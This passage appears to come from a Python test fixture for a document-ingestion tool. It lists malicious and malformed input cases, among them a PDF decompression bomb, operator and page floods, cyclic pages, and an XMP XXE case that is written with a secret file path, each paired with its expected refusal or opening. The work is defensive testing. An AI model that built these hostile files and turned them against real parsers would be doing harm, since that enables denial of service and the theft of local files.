    Case("pdf-flate-bomb.pdf", REFUSED, "drawing instructions", _fixed(pdf_flate_bomb)),
    Case("pdf-operator-flood.pdf", REFUSED, "operations", _fixed(pdf_operator_flood)),
    Case("pdf-form-amplification.pdf", REFUSED, "operations", _fixed(pdf_form_amplification)),
    Case("pdf-page-flood.pdf", REFUSED, "pages", _fixed(pdf_page_flood)),
    Case("pdf-cyclic-pages.pdf", REFUSED, "cyclic", _fixed(pdf_cyclic_pages)),
    Case("pdf-deep-nesting.pdf", REFUSED, "could not be read as a PDF", _fixed(pdf_deep_nesting)),
    Case("pdf-malformed.pdf", REFUSED, "could not be read as a PDF", _fixed(pdf_malformed)),
    Case("pdf-truncated.pdf", REFUSED, "could not be read as a PDF", _fixed(pdf_truncated)),
    Case("pdf-no-text.pdf", REFUSED, "no text layer", _fixed(pdf_no_text)),
    Case("pdf-actions.pdf", OPENED, "Customer Data", _fixed(pdf_actions)),
    Case("pdf-xmp-xxe.pdf", OPENED, "Customer Data", _writes(pdf_xmp_xxe)),
    # text
    Case("binary.txt", REFUSED, "NUL bytes", _fixed(binary_text)),
    Case("invalid-utf8.txt", REFUSED, "not valid UTF-8", _fixed(invalid_utf8_text)),
    Case("lone-surrogate.txt", REFUSED, "not valid UTF-8", _fixed(lone_surrogate_text)),
    Case("utf16.txt", REFUSED, "UTF-16", _fixed(utf16_text)),
    # not regular files
    Case("named-pipe.docx", REFUSED, "not a regular file", fifo),
    Case("folder.docx", REFUSED, "folder", folder),
    Case("dev-zero.txt", REFUSED, "not a regular file", device),
)


def write(folder_path: Path, secret: Path) -> list[Path]:
    """Write every case into `folder_path` (which must exist); return the paths in CASES order."""
    paths = []
    for case in CASES:
        target = folder_path / case.name
        case.build(target, secret)
        paths.append(target)
    return paths
